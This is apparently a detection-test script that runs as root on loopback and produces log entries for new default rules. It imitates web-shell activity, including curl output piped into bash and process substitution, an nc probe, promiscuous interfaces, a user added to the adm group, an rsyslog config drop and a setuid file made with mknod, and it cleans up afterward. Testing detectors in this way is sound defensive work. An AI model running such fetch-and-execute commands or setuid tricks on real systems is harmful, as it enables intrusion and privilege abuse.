# The capture of capture-detections-2.log: the default rules added on 2026-11-29. Runs as root from /,
# loopback only; puts back what it changes (a user and a group, a file in /etc/rsyslog.d, two
# network interfaces, files in /tmp).
set -x
cd /
# no login uid yet (auid unset), as a service's processes run
runuser -u www-data -- sh -c 'id' ; true                                        # a web shell's command
runuser -u www-data -- sh -c 'curl -s http://127.0.0.1:9/x | base64 -d | bash' ; true
runuser -u www-data -- bash -c 'bash <(curl -s http://127.0.0.1:9/i.sh)' ; true
runuser -u www-data -- sh -c 'curl -s http://127.0.0.1:9/l | grep -c ok | tee /dev/null' ; true
nc -z -w 1 127.0.0.1 9 ; true                                                  # nc connects, no login uid
echo 1000 > /proc/self/loginuid
ip link add aa-dummy0 type dummy && ip link set aa-dummy0 promisc on && ip link set aa-dummy0 promisc off
ip link del aa-dummy0
ip link add aa-veth0 type veth peer name aa-veth1 && ip link set aa-veth0 promisc on
ip link del aa-veth0
groupadd aa-grp
useradd -M -N -s /usr/sbin/nologin aa-user1
usermod -aG adm aa-user1
usermod -aG aa-grp aa-user1
userdel aa-user1
groupdel aa-grp
printf '# aa test\n' > /etc/rsyslog.d/aa-test.conf
rm -f /etc/rsyslog.d/aa-test.conf
/usr/bin/python3 -c 'import os; os.mknod("/tmp/aa-mknod-suid", 0o104755); os.mknod("/tmp/aa-mknod-plain", 0o100755)'
rm -f /tmp/aa-mknod-suid /tmp/aa-mknod-plain
